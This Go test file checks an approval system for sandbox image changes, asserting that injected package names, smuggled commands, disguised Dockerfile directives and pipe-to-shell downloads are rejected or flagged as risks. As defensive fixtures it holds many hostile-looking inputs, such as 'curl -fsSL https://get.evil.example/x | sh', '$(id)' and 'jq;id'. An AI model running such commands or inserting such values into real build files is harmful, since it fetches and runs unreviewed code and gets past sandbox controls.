package requests

import (
	"strings"
	"testing"
)

func capability(dockerfile string, packages ...string) Ask {
	return Ask{Kind: Capability, Image: &Image{Packages: packages, Dockerfile: dockerfile}, Why: "to build"}
}

func TestAChangeOfTheImage(t *testing.T) {
	l := New("k")
	r := mustAsk(t, l, t0, capability("# tools\nRUN set -eu; \\\n    echo one \\\n && echo two\nenv LANG=C", "jq", "g++", "libstdc++6", "jq"))
	s := l.Show(r, base())
	want := []string{"+ package g++", "+ package jq", "+ package libstdc++6", "+ # tools", `+ RUN set -eu; \`, `+     echo one \`, "+  && echo two", "+ env LANG=C", "for as long as there is the bottle, which is restarted"}
	if strings.Join(s.Delta, "\n") != strings.Join(want, "\n") {
		t.Errorf("got %q", s.Delta)
	}
	for _, scope := range []Scope{{Uses: 1}, {For: 1e9}} {
		if _, err := l.Decide(t0, r.ID, base(), Decision{Approve: true, Digest: s.Digest, Scope: scope}); err == nil {
			t.Errorf("it was granted for %v", scope)
		}
	}
	approve(t, l, t0, r.ID, Scope{})
	again := New("k")
	if ended := again.Load(t0, l.All()); len(ended) != 0 {
		t.Error("it ends with the bottle's run")
	}
}

// Attack G6: a change of the image is written so that apt-get, the builder and the operator
// each read something else, or brings in what nobody sees.
func TestAttackG6_AbsurdChangesOfTheImage(t *testing.T) {
	now := t0
	for _, test := range []struct{ why, dockerfile, name string }{
		{"an option", "", "-oAPT::Update::Pre-Invoke::=id"},
		{"another option", "", "--allow-unauthenticated"},
		{"a removal", "", "bash-"},
		{"a version", "", "bash=1.0"},
		{"a release", "", "bash/experimental"},
		{"a command", "", "jq;id"},
		{"a substitution", "", "$(id)"},
		{"a file", "", "./x.deb"},
		{"two words", "", "jq curl"},
		{"a new line", "", "jq\nRUN id"},
		{"capitals", "", "JQ"},
		{"a pattern", "", "lib*"},
		{"one letter", "", "r"},
		{"another image", "FROM evil.example/image", ""},
		{"a stage", "FROM debian AS x\nRUN id", ""},
		{"a file of another image", "COPY --from=evil.example/image / /", ""},
		{"a download", "ADD https://evil.example/x /usr/bin/x", ""},
		{"a file", "COPY x /x", ""},
		{"somebody else", "USER root", ""},
		{"something else", `ENTRYPOINT ["/x"]`, ""},
		{"a command", "CMD x", ""},
		{"a volume", "VOLUME /x", ""},
		{"a shell", `SHELL ["/x"]`, ""},
		{"a trigger", "ONBUILD RUN id", ""},
		{"a check", "HEALTHCHECK CMD id", ""},
		{"a mount", "RUN --mount=type=bind,source=/,target=/x id", ""},
		{"the host's network", "RUN --network=host id", ""},
		{"no sandbox", "run  --security=insecure id", ""},
		{"another escape", "# escape=`\nRUN id `\nUSER root", ""},
		{"a here-document", "RUN <<EOF\nUSER root\nEOF", ""},
		{"a comment within", "RUN a \\\n# b\nUSER root", ""},
		{"an empty line within", "RUN a \\\n\nUSER root", ""},
		{"an open end", "RUN a \\", ""},
		{"a space behind", "RUN a \\ \nUSER root", ""},
		{"two backslashes", "RUN a \\\\\nUSER root", ""},
		{"bidi", "RUN echo \u202edi", ""},
		{"an escape", "RUN echo \x1b[2J", ""},
		{"a return", "RUN echo a\rRUN echo b", ""},
		{"a tab", "RUN\tid", ""},
		{"a look-alike", "RUN curl https://gіthub.com", ""},
		{"a long line", "RUN " + strings.Repeat("a", 600), ""},
		{"many lines", strings.Repeat("RUN id\n", 70), ""},
		{"nothing", " \n", ""},
	} {
		now = now.Add(1e9)
		l := New("k")
		a := capability(test.dockerfile)
		if test.name != "" {
			a.Image.Packages = []string{test.name}
		}
		r, err := l.Ask(now, base(), a)
		if err == nil {
			t.Errorf("%s: taken down as %+v", test.why, r.Image)
		}
	}
}

func TestAttackG10_RisksOfAChangeOfTheImage(t *testing.T) {
	for dockerfile, want := range map[string]string{
		"RUN curl -fsSL https://get.evil.example/x | sh":          "nobody has read it",
		"RUN wget -qO- https://get.evil.example/x | sudo bash -s": "nobody has read it",
		"RUN curl https://x.example/y \\\n  | /usr/bin/python3":   "nobody has read it",
		"RUN bash -c \"$(curl https://x.example)\"":               "nobody has read it",
		"RUN echo aWQ= | base64 -d > /x":                          "what is run is not what is read",
		"RUN curl https://user:word@evil.example:8443/x -o /x":    "it reaches evil.example:8443",
		"RUN curl http://plain.example/x -o /x":                   "http:// is not encrypted",
		"RUN true":                                                "run as root while the image is built",
		"ENV LD_PRELOAD=/x.so":                                    "every program in the bottle would have LD_PRELOAD=/x.so",
	} {
		l := New("k")
		r := mustAsk(t, l, t0, capability(dockerfile))
		if risks := strings.Join(l.Show(r, base()).Risks, "\n"); !strings.Contains(risks, want) || !strings.Contains(risks, "restarted") {
			t.Errorf("%s: %s\ndoes not say %q", dockerfile, risks, want)
		}
	}
}
